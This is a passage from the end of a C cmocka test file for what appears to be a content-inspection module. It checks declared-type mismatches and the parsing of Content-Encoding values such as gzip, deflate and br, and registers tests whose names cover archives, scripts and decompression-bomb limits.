		memset(&f, 0, sizeof f);
		f.kind = f.inner = cases[i].kind;
		f.macros = cases[i].macros;
		if (cases[i].type != NULL)
			f.declared = span_text(cases[i].type);
		if (cases[i].name != NULL)
			f.name = span_text(cases[i].name);
		if (content_mismatched(&f) != cases[i].mismatched)
			fail_msg("case %zu: %s %s", i, cases[i].type == NULL ? "-" : cases[i].type,
			    cases[i].name == NULL ? "-" : cases[i].name);
	}
}

static void
test_coding_names(void **state)
{
	(void)state;
	assert_int_equal(content_coding_of(span_of(NULL, 0)), CONTENT_PLAIN);
	assert_int_equal(content_coding_of(span_text(" GZIP ")), CONTENT_GZIP);
	assert_int_equal(content_coding_of(span_text("x-gzip")), CONTENT_GZIP);
	assert_int_equal(content_coding_of(span_text("deflate")), CONTENT_DEFLATE);
	assert_int_equal(content_coding_of(span_text("br")), CONTENT_BROTLI);
	assert_int_equal(content_coding_of(span_text("zstd")), CONTENT_OTHER);
	assert_int_equal(content_coding_of(span_text("gzip, zstd")), CONTENT_OTHER);
	assert_int_equal(content_coding_of(span_text("identity,, gzip ,identity")), CONTENT_GZIP);
	assert_int_equal(content_coding_of(span_text("gzip, GZIP")), CONTENT_GZIP << CODING_BITS | CONTENT_GZIP);
	assert_int_equal(content_coding_of(span_text("deflate,br")), CONTENT_DEFLATE << CODING_BITS | CONTENT_BROTLI);
	assert_int_equal(content_coding_of(span_text("gzip,gzip,gzip,gzip")), CONTENT_TOO_DEEP);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_programs), cmocka_unit_test(test_zip), cmocka_unit_test(test_ooxml),
		cmocka_unit_test(test_ole), cmocka_unit_test(test_other_archives),
		cmocka_unit_test(test_documents_and_images), cmocka_unit_test(test_scripts),
		cmocka_unit_test(test_codings), cmocka_unit_test(test_web_scripts), cmocka_unit_test(test_ordinary_parts),
		cmocka_unit_test(test_codings_in_turn), cmocka_unit_test(test_a_bomb_stops), cmocka_unit_test(test_limits),
		cmocka_unit_test(test_codings_in_turn), cmocka_unit_test(test_a_bomb_between_codings_stops), cmocka_unit_test(test_limits),
		cmocka_unit_test(test_codings_in_turn), cmocka_unit_test(test_brotli), cmocka_unit_test(test_limits),
		cmocka_unit_test(test_codings_in_turn), cmocka_unit_test(test_brotli_memory), cmocka_unit_test(test_limits),
		cmocka_unit_test(test_codings_in_turn), cmocka_unit_test(test_codings_in_a_row), cmocka_unit_test(test_limits),
		cmocka_unit_test(test_codings_in_turn), cmocka_unit_test(test_too_many_codings), cmocka_unit_test(test_limits),
		cmocka_unit_test(test_holes), cmocka_unit_test(test_mismatch), cmocka_unit_test(test_coding_names),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
